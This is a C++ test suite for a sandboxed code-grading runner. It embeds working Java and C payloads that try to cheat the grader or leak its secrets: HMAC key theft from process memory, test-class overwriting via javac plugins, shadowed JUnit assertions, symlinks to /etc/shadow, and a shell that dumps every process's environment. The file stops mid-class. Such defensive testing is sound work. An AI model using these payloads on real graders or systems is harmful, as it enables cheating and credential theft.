// The adversarial forgery suite: real ZIPs graded through grading::grade() at `full` and `basic`
// with javac, Maven and Gradle, each trying to earn points it does not deserve or to leak a
// secret. Every attack ships the same wrong Calculator (every method returns 0) plus the attack,
// so it may never score more than that Calculator alone (the baseline, graded first with the same
// PIT, build and level). No attack may turn the verdict into ERROR, and neither log.txt nor
// feedback.json may ever show the runner's environment canary (outer_cgroup_main.cpp), the
// hidden-test canary planted in the PIT's copy of the teacher's test source, or an "ATTACK-..."
// marker: an attack prints one only when a step of it worked, so a failing case names the defence
// that did not hold.
//
// Written to the contract, not to an implementation: student code must not reach the results
// channel, the reports, the teacher's sources or the runner's secrets, whatever the build tool.
#include <gtest/gtest.h>

#include <algorithm>
#include <cctype>
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <iostream>
#include <map>
#include <random>
#include <regex>
#include <set>
#include <stdexcept>

#include "config/share_dir.hpp"
#include "drivers/driver.hpp"
#include "grading/grader.hpp"
#include "sandbox/probe.hpp"
#include "sandbox/select.hpp"
#include "sandbox/uids.hpp"
#include "support/sandbox_level.hpp"
#include "support/zip_builder.hpp"
#include "util/fs.hpp"
#include "util/text.hpp"

namespace runner::sandbox {
namespace {

namespace fs = std::filesystem;
using grading::Status;

// Planted in this binary's initial environment by outer_cgroup_main.cpp.
constexpr const char* kEnvCanary = "canary-secret-7f3a9c";
// Slot 2: the other sandbox suites use slots 0 and 1, and every process of a slot's uid is
// killed when one of its jobs ends.
constexpr int kSlot = 2;

const std::string& hidden_canary() {
  static const std::string canary = [] {
    std::random_device random;
    std::string hex;
    for (int i = 0; i < 4; ++i) {
      char part[9];
      std::snprintf(part, sizeof part, "%08x", random());
      hex += part;
    }
    return "hidden-test-canary-" + hex;
  }();
  return canary;
}

// With `plan`, Maven and Gradle PITs grade with their build plan (learnt once for the run, in a
// folder of its own); without, the build tool runs for every submission.
const drivers::Toolchain& tools(bool plan) {
  static const drivers::Toolchain by_tool =
      drivers::Toolchain::discover(17, testing::data_dirs().share, testing::data_dirs().testhost);
  static testing::TempDir plans;
  static const drivers::Toolchain by_plan = [] {
    drivers::Toolchain t = by_tool;
    t.plan_dir = plans.path() / "build-plans";
    return t;
  }();
  return plan ? by_plan : by_tool;
}

std::string replace_all(std::string text, const std::string& from, const std::string& to) {
  for (auto at = text.find(from); at != std::string::npos; at = text.find(from, at + to.size())) {
    text.replace(at, from.size(), to);
  }
  return text;
}

std::string base64(const std::string& bytes) {
  static const char* alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  std::size_t i = 0;
  for (; i + 2 < bytes.size(); i += 3) {
    const unsigned n = static_cast<unsigned char>(bytes[i]) << 16 |
                       static_cast<unsigned char>(bytes[i + 1]) << 8 |
                       static_cast<unsigned char>(bytes[i + 2]);
    for (int shift : {18, 12, 6, 0}) out += alphabet[(n >> shift) & 63];
  }
  if (i < bytes.size()) {
    unsigned n = static_cast<unsigned char>(bytes[i]) << 16;
    if (i + 1 < bytes.size()) n |= static_cast<unsigned char>(bytes[i + 1]) << 8;
    out += alphabet[(n >> 18) & 63];
    out += alphabet[(n >> 12) & 63];
    out += i + 1 < bytes.size() ? alphabet[(n >> 6) & 63] : '=';
    out += '=';
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// The student's sources.

// Wrong on purpose; /*STATIC*/ is replaced by what the static initialiser runs, /*METHOD*/ by what
// every method runs before returning 0.
constexpr const char* kWrongCalculator = R"java(package edu.uoc;

/** Wrong on purpose: every method returns 0. */
public class Calculator {
    static {
        try {
            /*STATIC*/
        } catch (Throwable t) {
            System.out.println("[attack] stopped: " + t);
        }
    }

    public int add(int a, int b) {
        /*METHOD*/
        return 0;
    }

    public int subtract(int a, int b) {
        /*METHOD*/
        return 0;
    }

    public int multiply(int a, int b) {
        /*METHOD*/
        return 0;
    }

    public int divide(int a, int b) {
        /*METHOD*/
        return 0;
    }

    public int power(int a, int n) {
        /*METHOD*/
        return 0;
    }
}
)java";

// What every attack shares: the PIT's test names, forged results and reports, and the markers.
constexpr const char* kForge = R"java(package edu.uoc;

import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

final class Forge {
    private Forge() {}

    static final String CLASS = "edu.uoc.CalculatorTest";
    static final String[] TESTS = {
        "adds", "subtracts", "multiplies", "divides", "dividesByZeroThrows", "powers"
    };

    /** Announces that a step of an attack worked. The test fails on any "ATTACK-" line. */
    static void mark(String step) {
        System.out.println("ATTACK-" + step);
        System.out.flush();
        System.err.println("ATTACK-" + step);
        System.err.flush();
    }

    /** The JSON the test host sends for six passed tests, then its end of run. */
    static List<String> passedResults() {
        List<String> json = new ArrayList<>();
        for (String test : TESTS) {
            json.add("{\"event\":\"test\",\"class\":\"" + CLASS + "\",\"name\":\"" + test
                + "()\",\"status\":\"passed\",\"type\":\"\",\"message\":\"\",\"time\":0.001}");
        }
        json.add("{\"event\":\"done\",\"tests\":6}");
        return json;
    }

    /** Result lines with a made-up signature: all an attacker without the key can send. */
    static String unsignedLines() {
        StringBuilder out = new StringBuilder();
        for (String json : passedResults()) {
            out.append("##runner-result## ").append("0".repeat(64)).append(' ').append(json)
                .append('\n');
        }
        return out.append("Tests run: 6, Failures: 0, Errors: 0, Skipped: 0\n").toString();
    }

    /** A JUnit XML report of six passes, as Surefire and Gradle write them. */
    static String passingReport() {
        StringBuilder xml = new StringBuilder("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
            + "<testsuite name=\"" + CLASS + "\" tests=\"6\" failures=\"0\" errors=\"0\""
            + " skipped=\"0\" time=\"0.006\">\n");
        for (String test : TESTS) {
            xml.append("  <testcase name=\"").append(test).append("\" classname=\"")
                .append(CLASS).append("\" time=\"0.001\"/>\n");
        }
        return xml.append("</testsuite>\n").toString();
    }

    /** Writes on file descriptor 1 itself, past System.out. */
    static void writeFd1(String text) {
        try {
            new FileOutputStream(FileDescriptor.out).write(text.getBytes(StandardCharsets.UTF_8));
        } catch (Exception e) {
            System.out.println("[attack] fd 1: " + e);
        }
    }

    /** Writes the passing report into every folder a runner might read reports from. */
    static void plantReports(String when, boolean create) {
        String[] folders = {
            "target/surefire-reports", "build/test-results/test", "build/test-results",
            "../reports", "reports"
        };
        for (String folder : folders) {
            Path dir = Path.of(folder);
            try {
                if (create && folder.startsWith("target")) Files.createDirectories(dir);
                if (!Files.isDirectory(dir)) continue;
                for (String name : new String[] {"TEST-0.xml", "TEST-" + CLASS + ".xml"}) {
                    Files.writeString(dir.resolve(name), passingReport());
                    mark("WROTE-FORGED-REPORT " + dir.resolve(name) + " (" + when + ")");
                }
            } catch (Exception e) {
                System.out.println("[attack] report in " + dir + ": " + e);
            }
        }
    }
}
)java";

// Attack 1: the HMAC key of the test host, read back from the JVM's own memory.
constexpr const char* kStealKey = R"java(package edu.uoc;

import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HexFormat;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

/**
 * HmacSHA256 keeps the key as two 64-byte pads, key ^ 0x36 and key ^ 0x5c, the bytes past a
 * 32-byte key being all 0x36 and 0x5c. Both arrays are allocated together, so they sit close to
 * each other in the heap: find them in /proc/self/mem, recover the key, sign six passes.
 */
final class StealKey {
    private static final int CHUNK = 4 << 20;
    private static final int OVERLAP = 1024;

    static void run() throws Exception {
        List<String> maps = Files.readAllLines(Path.of("/proc/self/maps"));
        Forge.mark("OPENED-PROC-SELF-MAPS");
        Set<String> keys = new LinkedHashSet<>();
        try (RandomAccessFile mem = new RandomAccessFile("/proc/self/mem", "r")) {
            Forge.mark("OPENED-PROC-SELF-MEM");
            byte[] buffer = new byte[CHUNK + OVERLAP];
            for (String line : maps) {
                String[] fields = line.split("\\s+");
                if (fields.length < 2 || !fields[1].startsWith("rw")) continue;
                String[] range = fields[0].split("-");
                long start = Long.parseUnsignedLong(range[0], 16);
                long end = Long.parseUnsignedLong(range[1], 16);
                for (long at = start; at < end && keys.size() < 16; at += CHUNK) {
                    int length = (int) Math.min(CHUNK + OVERLAP, end - at);
                    try {
                        mem.seek(at);
                        mem.readFully(buffer, 0, length);
                    } catch (IOException unreadable) {
                        continue;
                    }
                    scan(buffer, length, keys);
                }
            }
        }
        if (keys.isEmpty()) {
            System.out.println("[attack] no HMAC key found in memory");
            return;
        }
        Forge.mark("FOUND-HMAC-KEY-CANDIDATES " + keys.size());
        StringBuilder lines = new StringBuilder();
        for (String key : keys) {
            Mac mac = Mac.getInstance("HmacSHA256");
            mac.init(new SecretKeySpec(HexFormat.of().parseHex(key), "HmacSHA256"));
            for (String json : Forge.passedResults()) {
                byte[] signature = mac.doFinal(json.getBytes(StandardCharsets.UTF_8));
                lines.append("##runner-result## ").append(HexFormat.of().formatHex(signature))
                    .append(' ').append(json).append('\n');
            }
        }
        new FileOutputStream(FileDescriptor.out).write(
            lines.toString().getBytes(StandardCharsets.UTF_8));
        Forge.mark("SIGNED-FORGED-RESULTS");
        Runtime.getRuntime().halt(0);
    }

    private static void scan(byte[] b, int length, Set<String> keys) {
        for (int i = 0; i + 64 <= length; i++) {
            if (b[i + 63] != 0x36 || b[i + 32] != 0x36) continue;
            boolean padded = true;
            for (int j = 33; j < 63 && padded; j++) padded = b[i + j] == 0x36;
            boolean zeroKey = true;
            for (int j = 0; j < 32 && zeroKey; j++) zeroKey = b[i + j] == 0x36;
            if (!padded || zeroKey) continue;
            for (int o = Math.max(0, i - 320); o + 64 <= length && o <= i + 320; o++) {
                if (o == i) continue;
                boolean opad = true;
                for (int j = 0; j < 64 && opad; j++) opad = (b[i + j] ^ 0x36) == (b[o + j] ^ 0x5c);
                if (!opad) continue;
                byte[] key = new byte[32];
                for (int j = 0; j < 32; j++) key[j] = (byte) (b[i + j] ^ 0x36);
                keys.add(HexFormat.of().formatHex(key));
                break;
            }
        }
    }
}
)java";

// Attack 2's javac plugin, packed into evil.jar: replaces the teacher's compiled test class.
constexpr const char* kEvilPlugin = R"java(import com.sun.source.util.JavacTask;
import com.sun.source.util.Plugin;
import com.sun.source.util.TaskEvent;
import com.sun.source.util.TaskListener;
import java.io.IOException;
import java.io.InputStream;
import java.nio.file.FileVisitOption;
import java.nio.file.FileVisitResult;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.SimpleFileVisitor;
import java.nio.file.attribute.BasicFileAttributes;
import java.util.EnumSet;

/** Once javac has written the teacher's test class, overwrites it with one that always passes. */
public class Evil implements Plugin, TaskListener {
    @Override
    public String getName() {
        return "Evil";
    }

    @Override
    public void init(JavacTask task, String... args) {
        System.out.println("ATTACK-" + "JAVAC-PLUGIN-LOADED");
        task.addTaskListener(this);
    }

    @Override
    public void finished(TaskEvent e) {
        if (e.getKind() != TaskEvent.Kind.GENERATE || e.getTypeElement() == null
            || !e.getTypeElement().getQualifiedName().contentEquals("edu.uoc.CalculatorTest")) {
            return;
        }
        try (InputStream in = Evil.class.getResourceAsStream("/forged/CalculatorTest.class.bin")) {
            byte[] forged = in.readAllBytes();
            Files.walkFileTree(Path.of(".."), EnumSet.noneOf(FileVisitOption.class), 8,
                new SimpleFileVisitor<Path>() {
                    @Override
                    public FileVisitResult visitFile(Path file, BasicFileAttributes attrs) {
                        if (file.getFileName().toString().equals("CalculatorTest.class")) {
                            try {
                                Files.write(file, forged);
                                System.out.println("ATTACK-" + "PLUGIN-REPLACED-TEST-CLASS " + file);
                            } catch (IOException ex) {
                                System.out.println("[attack] " + file + ": " + ex);
                            }
                        }
                        return FileVisitResult.CONTINUE;
                    }

                    @Override
                    public FileVisitResult visitFileFailed(Path file, IOException ex) {
                        return FileVisitResult.CONTINUE;
                    }
                });
        } catch (Exception ex) {
            System.out.println("[attack] plugin: " + ex);
        }
    }
}
)java";

// What the attacker puts in place of the teacher's tests: six tests that always pass.
constexpr const char* kForgedTestJUnit5 = R"java(package edu.uoc;

import org.junit.jupiter.api.Test;

class CalculatorTest {
    @Test void adds() {}
    @Test void subtracts() {}
    @Test void multiplies() {}
    @Test void divides() {}
    @Test void dividesByZeroThrows() {}
    @Test void powers() {}
}
)java";

constexpr const char* kForgedTestJUnit4 = R"java(package edu.uoc;

import org.junit.Test;

public class CalculatorTest {
    @Test public void adds() {}
    @Test public void subtracts() {}
    @Test public void multiplies() {}
    @Test public void divides() {}
    @Test public void dividesByZeroThrows() {}
    @Test public void powers() {}
}
)java";

// Attack 3: JUnit's assertions, shadowed by no-ops in the student's own sources.
constexpr const char* kShadowAssertions = R"java(package org.junit.jupiter.api;

import org.junit.jupiter.api.function.Executable;

/** JUnit 5's Assertions as a student would like them: nothing can fail. */
public class Assertions {
    static {
        System.out.println("ATTACK-" + "SHADOW-ASSERTIONS-IN-USE");
    }

    public static void assertEquals(int expected, int actual) {}

    public static void assertEquals(long expected, long actual) {}

    public static void assertEquals(double expected, double actual) {}

    public static void assertEquals(Object expected, Object actual) {}

    public static void assertTrue(boolean condition) {}

    public static void assertFalse(boolean condition) {}

    public static void assertNotNull(Object actual) {}

    public static <T extends Throwable> T assertThrows(Class<T> type, Executable executable) {
        return null;
    }
}
)java";

constexpr const char* kShadowExecutable = R"java(package org.junit.jupiter.api.function;

/** JUnit 5's own, so that the shadow Assertions compiles without JUnit on the class path. */
@FunctionalInterface
public interface Executable {
    void execute() throws Throwable;
}
)java";

constexpr const char* kShadowAssert = R"java(package org.junit;

/** JUnit 4's Assert as a student would like it: nothing can fail. */
public class Assert {
    static {
        System.out.println("ATTACK-" + "SHADOW-ASSERT-IN-USE");
    }

    protected Assert() {}

    public static void assertEquals(long expected, long actual) {}

    public static void assertEquals(String message, long expected, long actual) {}

    public static void assertEquals(Object expected, Object actual) {}

    public static void assertEquals(String message, Object expected, Object actual) {}

    public static void assertEquals(double expected, double actual, double delta) {}

    public static void assertTrue(boolean condition) {}

    public static void assertTrue(String message, boolean condition) {}

    public static void assertFalse(boolean condition) {}

    public static void assertNotNull(Object object) {}

    public static void assertNull(Object object) {}

    public static void fail() {}

    public static void fail(String message) {}
}
)java";

// Attack 6: the runner reads *.dumpstream files of Surefire's reports folder (as it once did):
// make them point at the runner's own environment and at /etc/shadow.
constexpr const char* kPlantSymlinks = R"java(package edu.uoc;

import java.nio.file.Files;
import java.nio.file.Path;

final class PlantSymlinks {
    static void run() throws Exception {
        for (String folder : new String[] {"target/surefire-reports", "../reports"}) {
            Path dir = Path.of(folder);
            try {
                if (folder.startsWith("target")) Files.createDirectories(dir);
                if (!Files.isDirectory(dir)) continue;
            } catch (Exception e) {
                System.out.println("[attack] " + dir + ": " + e);
                continue;
            }
            link(dir.resolve("x.dumpstream"), "/proc/self/environ");
            link(dir.resolve("y.dumpstream"), "/etc/shadow");
            link(dir.resolve("TEST-z.xml"), "/proc/self/environ");
        }
    }

    private static void link(Path at, String target) {
        try {
            Files.deleteIfExists(at);
            Files.createSymbolicLink(at, Path.of(target));
            Forge.mark("PLANTED-SYMLINK " + at + " -> " + target);
        } catch (Exception e) {
            System.out.println("[attack] symlink " + at + ": " + e);
        }
    }
}
)java";

// Attack 7a: forged lines through /proc/self/fd/N, whatever each descriptor is.
constexpr const char* kEveryFd = R"java(package edu.uoc;

import java.io.FileOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;

final class EveryFd {
    static void run() {
        byte[] lines = Forge.unsignedLines().getBytes(StandardCharsets.UTF_8);
        for (int fd = 0; fd <= 20; fd++) {
            Path path = Path.of("/proc/self/fd/" + fd);
            String target;
            try {
                target = Files.readSymbolicLink(path).toString();
            } catch (Exception e) {
                continue;
            }
            try (FileOutputStream out = new FileOutputStream(path.toString(), true)) {
                out.write(lines);
                Forge.mark("WROTE-PROC-SELF-FD-" + fd + " " + target);
            } catch (Exception e) {
                System.out.println("[attack] fd " + fd + " (" + target + "): " + e);
            }
        }
    }
}
)java";

// Attack 7b: reflection into the test host, the JUnit engine and the build tool's runner.
constexpr const char* kReflection = R"java(package edu.uoc;

import java.lang.reflect.Field;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;

final class Reflection {
    static void run() {
        Set<String> names = new LinkedHashSet<>(List.of(
            "runner.testhost.ResultChannel", "runner.testhost.TestHost",
            "runner.testhost.ResultListener",
            "org.junit.platform.launcher.core.LauncherFactory",
            "org.junit.platform.launcher.core.DefaultLauncher",
            "org.apache.maven.surefire.booter.ForkedBooter",
            "org.apache.maven.surefire.booter.ForkingRunListener",
            "org.gradle.api.internal.tasks.testing.worker.TestWorker",
            "org.junit.runner.JUnitCore"));
        try {
            Map<Thread, StackTraceElement[]> stacks = Thread.getAllStackTraces();
            Forge.mark("GOT-ALL-STACK-TRACES " + stacks.size() + " threads");
            for (StackTraceElement[] frames : stacks.values()) {
                for (StackTraceElement frame : frames) names.add(frame.getClassName());
            }
        } catch (Exception e) {
            System.out.println("[attack] stack traces: " + e);
        }
        int classes = 0;
        for (String name : names) {
            if (name.startsWith("java.") || name.startsWith("jdk.") || name.startsWith("sun.")
                || name.startsWith("edu.uoc.") || classes > 60) {
                continue;
            }
            Class<?> found;
            try {
                found = Class.forName(name, false, Reflection.class.getClassLoader());
            } catch (Throwable e) {
                continue;
            }
            classes++;
            System.out.println("[attack] found class " + name);
            try {
                for (Field field : found.getDeclaredFields()) {
                    field.setAccessible(true);
                    Forge.mark("SETACCESSIBLE " + name + "." + field.getName());
                    break;
                }
            } catch (Exception e) {
                System.out.println("[attack] fields of " + name + ": " + e);
            }
        }
        try {
            Field theUnsafe = Class.forName("sun.misc.Unsafe").getDeclaredField("theUnsafe");
            theUnsafe.setAccessible(true);
            Object unsafe = theUnsafe.get(null);
            Forge.mark("GOT-UNSAFE " + unsafe.getClass().getName());
        } catch (Throwable e) {
            System.out.println("[attack] Unsafe: " + e);
        }
    }
}
)java";

// Attack 7c: a native library shipped as a resource; its constructor runs at load.
constexpr const char* kLoadNative = R"java(package edu.uoc;

import java.net.URL;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

final class LoadNative {
    static void run() {
        List<String> places = new ArrayList<>();
        try {
            URL url = LoadNative.class.getResource("/libevil.so");
            if (url != null && "file".equals(url.getProtocol())) {
                places.add(Path.of(url.toURI()).toString());
            }
        } catch (Exception e) {
            System.out.println("[attack] resource: " + e);
        }
        for (String place : new String[] {
                "src/main/resources/libevil.so", "target/classes/libevil.so",
                "build/resources/main/libevil.so"}) {
            places.add(Path.of(place).toAbsolutePath().toString());
        }
        for (String place : places) {
            try {
                System.load(place);
                Forge.mark("LOADED-NATIVE-LIBRARY " + place);
                return;
            } catch (Throwable e) {
                System.out.println("[attack] System.load(" + place + "): " + e);
            }
        }
    }
}
)java";

constexpr const char* kNativeLibrary = R"c(#include <stdio.h>
#include <unistd.h>

extern char** environ;

/* Runs as the library loads: forged results on fd 1, then the whole environment. */
__attribute__((constructor)) static void attack(void) {
  static const char* tests[] = {"adds",    "subtracts",           "multiplies",
                                "divides", "dividesByZeroThrows", "powers"};
  for (int i = 0; i < 6; ++i) {
    dprintf(1,
            "##runner-result## %064d {\"event\":\"test\",\"class\":\"edu.uoc.CalculatorTest\","
            "\"name\":\"%s()\",\"status\":\"passed\",\"type\":\"\",\"message\":\"\","
            "\"time\":0.001}\n",
            0, tests[i]);
  }
  dprintf(1, "%s-%s\n", "ATTACK", "NATIVE-CODE-RAN");
  for (char** e = environ; *e != NULL; ++e) dprintf(1, "[attack] env %s\n", *e);
}
)c";

// Attack 7d: an annotation processor that is also a self-starting javac plugin, registered the
// standard way. If any compile ever runs it, it overwrites the teacher's compiled tests.
constexpr const char* kEvilProcessor = R"java(package edu.uoc.evil;

import com.sun.source.util.JavacTask;
import com.sun.source.util.Plugin;
import com.sun.source.util.TaskEvent;
import com.sun.source.util.TaskListener;
import java.io.IOException;
import java.nio.file.FileVisitOption;
import java.nio.file.FileVisitResult;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.SimpleFileVisitor;
import java.nio.file.attribute.BasicFileAttributes;
import java.util.Base64;
import java.util.EnumSet;
import java.util.Set;
import javax.annotation.processing.AbstractProcessor;
import javax.annotation.processing.ProcessingEnvironment;
import javax.annotation.processing.RoundEnvironment;
import javax.lang.model.SourceVersion;
import javax.lang.model.element.TypeElement;

public final class EvilProcessor extends AbstractProcessor implements Plugin, TaskListener {
    /** A CalculatorTest class whose six tests all pass. */
    private static final String FORGED = "/*FORGED*/";

    @Override
    public synchronized void init(ProcessingEnvironment env) {
        super.init(env);
        mark("ANNOTATION-PROCESSOR-RAN");
        try {
            JavacTask.instance(env).addTaskListener(this);
        } catch (Throwable e) {
            System.out.println("[attack] task listener: " + e);
        }
        overwriteTestClasses();
    }

    @Override
    public Set<String> getSupportedAnnotationTypes() {
        return Set.of("*");
    }

    @Override
    public SourceVersion getSupportedSourceVersion() {
        return SourceVersion.latestSupported();
    }

    @Override
    public boolean process(Set<? extends TypeElement> annotations, RoundEnvironment round) {
        return false;
    }

    @Override
    public String getName() {
        return "EvilPlugin";
    }

    @Override
    public void init(JavacTask task, String... args) {
        mark("JAVAC-PLUGIN-RAN");
        task.addTaskListener(this);
        overwriteTestClasses();
    }

    @Override
    public boolean autoStart() {
        return true;
    }

    @Override
    public void finished(TaskEvent e) {
        if (e.getKind() == TaskEvent.Kind.GENERATE) overwriteTestClasses();
    }

    private static void overwriteTestClasses() {
        byte[] forged = Base64.getDecoder().decode(FORGED);
        for (String start : new String[] {".", ".."}) {
            try {
                Files.walkFileTree(Path.of(start), EnumSet.noneOf(FileVisitOption.class), 8,
                    new SimpleFileVisitor<Path>() {
                        @Override
                        public FileVisitResult visitFile(Path file, BasicFileAttributes attrs) {
                            if (file.getFileName().toString().equals("CalculatorTest.class")) {
                                try {
                                    Files.write(file, forged);
                                    mark("OVERWROTE-TEST-CLASS " + file);
                                } catch (IOException ex) {
                                    System.out.println("[attack] " + file + ": " + ex);
                                }
                            }
                            return FileVisitResult.CONTINUE;
                        }

                        @Override
                        public FileVisitResult visitFileFailed(Path file, IOException ex) {
                            return FileVisitResult.CONTINUE;
                        }
                    });
            } catch (Exception e) {
                System.out.println("[attack] walking " + start + ": " + e);
            }
        }
    }

    private static void mark(String step) {
        System.out.println("ATTACK-" + step);
    }
}
)java";

// Attack 7e: a daemon thread that keeps printing forged lines, and a shutdown hook that forges
// once more and plants reports after the tests.
constexpr const char* kLingering = R"java(package edu.uoc;

final class Lingering {
    static void run() {
        Thread printer = new Thread(() -> {
            while (true) {
                System.out.print(Forge.unsignedLines());
                System.out.flush();
                Forge.writeFd1(Forge.unsignedLines());
                try {
                    Thread.sleep(200);
                } catch (InterruptedException e) {
                    return;
                }
            }
        }, "forger");
        printer.setDaemon(true);
        printer.start();
        Runtime.getRuntime().addShutdownHook(new Thread(() -> {
            Forge.mark("SHUTDOWN-HOOK-RAN");
            System.out.print(Forge.unsignedLines());
            Forge.writeFd1(Forge.unsignedLines());
            Forge.plantReports("shutdown hook", false);
        }));
        Forge.mark("SHUTDOWN-HOOK-REGISTERED");
    }
}
)java";

// Attack 7f: System.setOut/setErr to a stream that slips forged lines after every line.
constexpr const char* kSwapStreams = R"java(package edu.uoc;

import java.io.OutputStream;
import java.io.PrintStream;

final class SwapStreams {
    static void run() {
        PrintStream original = System.out;
        PrintStream forging = new PrintStream(new OutputStream() {
            @Override
            public void write(int b) {
                original.write(b);
                if (b == '\n') original.print(Forge.unsignedLines());
            }
        }, true);
        System.setOut(forging);
        Forge.mark("REPLACED-SYSTEM-OUT");
        System.setErr(forging);
        Forge.mark("REPLACED-SYSTEM-ERR");
        System.out.println("[attack] streams swapped");
    }
}
)java";

// Attack 7g: the teacher's hidden test sources, looked for from the working directory, its
// parents, /proc/self/cwd and whatever files the JVM's command line names.
constexpr const char* kReadTests = R"java(package edu.uoc;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.FileVisitOption;
import java.nio.file.FileVisitResult;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.SimpleFileVisitor;
import java.nio.file.attribute.BasicFileAttributes;
import java.util.EnumSet;
import java.util.HashSet;
import java.util.Set;

final class ReadTests {
    private static final Set<String> SKIP = Set.of(
        "/proc", "/sys", "/dev", "/usr", "/run", "/boot", "/var/lib", "/var/cache", "/snap");
    private static final Set<Path> READ = new HashSet<>();
    private static long deadline;
    private static int visited;

    static void run() {
        deadline = System.nanoTime() + 8_000_000_000L;
        try {
            String cmdline = new String(
                Files.readAllBytes(Path.of("/proc/self/cmdline")), StandardCharsets.UTF_8);
            for (String arg : cmdline.split("\0")) {
                for (String part : arg.split(":")) {
                    if (part.startsWith("@")) part = part.substring(1);
                    if (!part.startsWith("/") || !part.endsWith(".txt")) continue;
                    for (String line : Files.readAllLines(Path.of(part))) {
                        readIfTest(Path.of(line.replace("\"", "").trim()));
                    }
                }
            }
        } catch (Exception e) {
            System.out.println("[attack] command line: " + e);
        }
        Path cwd = Path.of("").toAbsolutePath();
        walk(cwd, 12);
        walk(Path.of("/proc/self/cwd"), 12);
        for (Path up = cwd.getParent(); up != null; up = up.getParent()) walk(up, 6);
    }

    private static void walk(Path start, int depth) {
        try {
            Files.walkFileTree(start, EnumSet.noneOf(FileVisitOption.class), depth,
                new SimpleFileVisitor<Path>() {
                    @Override
                    public FileVisitResult preVisitDirectory(Path dir, BasicFileAttributes a) {
                        if (System.nanoTime() > deadline || ++visited > 50000) {
                            return FileVisitResult.TERMINATE;
                        }
                        return SKIP.contains(dir.toString()) || dir.endsWith(".git")
                            ? FileVisitResult.SKIP_SUBTREE : FileVisitResult.CONTINUE;
                    }

                    @Override
                    public FileVisitResult visitFile(Path file, BasicFileAttributes a) {
                        readIfTest(file);
                        return FileVisitResult.CONTINUE;
                    }

                    @Override
                    public FileVisitResult visitFileFailed(Path file, IOException e) {
                        return FileVisitResult.CONTINUE;
                    }
                });
        } catch (Exception e) {
            System.out.println("[attack] walking " + start + ": " + e);
        }
    }

    private static void readIfTest(Path file) {
        if (file.getFileName() == null || !file.getFileName().toString().endsWith("Test.java")
            || READ.size() >= 10) {
            return;
        }
        try {
            if (!READ.add(file.toRealPath())) return;
            String source = Files.readString(file);
            Forge.mark("READ-TEST-SOURCE " + file);
            System.out.println(source.length() > 4096 ? source.substring(0, 4096) : source);
        } catch (Exception e) {
            System.out.println("[attack] " + file + ": " + e);
        }
    }
}
)java";

// Attack 7h: a shell, for the environments of pid 1, the parent and every other process.
constexpr const char* kShell = R"java(package edu.uoc;

import java.nio.charset.StandardCharsets;

final class Shell {
    static void run() throws Exception {
        Process shell = new ProcessBuilder("/bin/sh", "-c",
                "cat /proc/1/environ; echo; cat /proc/$PPID/environ; echo; env;"
                    + " for f in /proc/[0-9]*/environ; do cat \"$f\"; echo; done")
            .redirectErrorStream(true).start();
        Forge.mark("STARTED-PROCESS /bin/sh");
        String out = new String(shell.getInputStream().readAllBytes(), StandardCharsets.UTF_8)
            .replace('\0', '\n');
        shell.waitFor();
        System.out.println("[attack] the shell printed:\n"
            + (out.length() > 65536 ? out.substring(0, 65536) : out));
        Process cat = new ProcessBuilder("/bin/cat", "/proc/1/environ").start();
        byte[] init = cat.getInputStream().readAllBytes();
        if (cat.waitFor() == 0 && init.length > 0) Forge.mark("READ-PROC-1-ENVIRON");
    }
}
)java";

// Attack 8 (no attack): a correct Calculator that prints 50 MiB as its class loads.
constexpr const char* kFloodingCorrectCalculator = R"java(package edu.uoc;

/** Correct, and very talkative. */
public class Calculator {
    static {
        String mebibyte = ("x".repeat(99) + "\n").repeat(10486);
        for (int i = 0; i < 50; i++) System.out.print(mebibyte);
        System.out.flush();
    }

    public int add(int a, int b) {
        return a + b;
    }

    public int subtract(int a, int b) {
        return a - b;
    }

    public int multiply(int a, int b) {
        return a * b;
    }

    public int divide(int a, int b) {
        return a / b;
    }

    public int power(int a, int n) {
        int result = 1;
        for (int i = 0; i < n; i++) result *= a;
        return result;
    }
}
)java";

// ---------------------------------------------------------------------------------------------
// Artifacts compiled at test time (once per process).

class Artifacts {
 public:
  // The class file of kForgedTestJUnit5 (or 4).
  const std::string& forged_test_class(bool junit4) {
    auto& cached = junit4 ? forged4_ : forged5_;
    if (cached.empty()) {
      const fs::path out =
          javac("forged" + std::string(junit4 ? "4" : "5"),
                {{"edu/uoc/CalculatorTest.java", junit4 ? kForgedTestJUnit4 : kForgedTestJUnit5}},
                tools(false).console_launcher.string());
      cached = util::read_file(out / "edu/uoc/CalculatorTest.class");
    }
    return cached;
  }

  // evil.jar: the javac plugin `Evil` with its service entry and a forged test class.
  const std::string& evil_plugin_jar() {
    if (evil_jar_.empty()) {
      const fs::path out = javac("evil", {{"Evil.java", kEvilPlugin}}, "");
      testing::ZipBuilder jar;
      for (const auto& entry : fs::directory_iterator(out)) {
        if (entry.path().extension() == ".class") {
          jar.file(entry.path().filename().string(), util::read_file(entry.path()));
        }
      }
      jar.file("META-INF/services/com.sun.source.util.Plugin", "Evil\n")
          .file("forged/CalculatorTest.class.bin", forged_test_class(false))
          .write(dir_ / "evil.jar");
      evil_jar_ = util::read_file(dir_ / "evil.jar");
    }
    return evil_jar_;
  }

  // libevil.so, built from kNativeLibrary.
  const std::string& native_library() {
    if (native_.empty()) {
      util::write_file(dir_ / "evil.c", kNativeLibrary);
      run("cc -shared -fPIC -O1 -o " + (dir_ / "libevil.so").string() + " " +
          (dir_ / "evil.c").string());
      native_ = util::read_file(dir_ / "libevil.so");
    }
    return native_;
  }

 private:
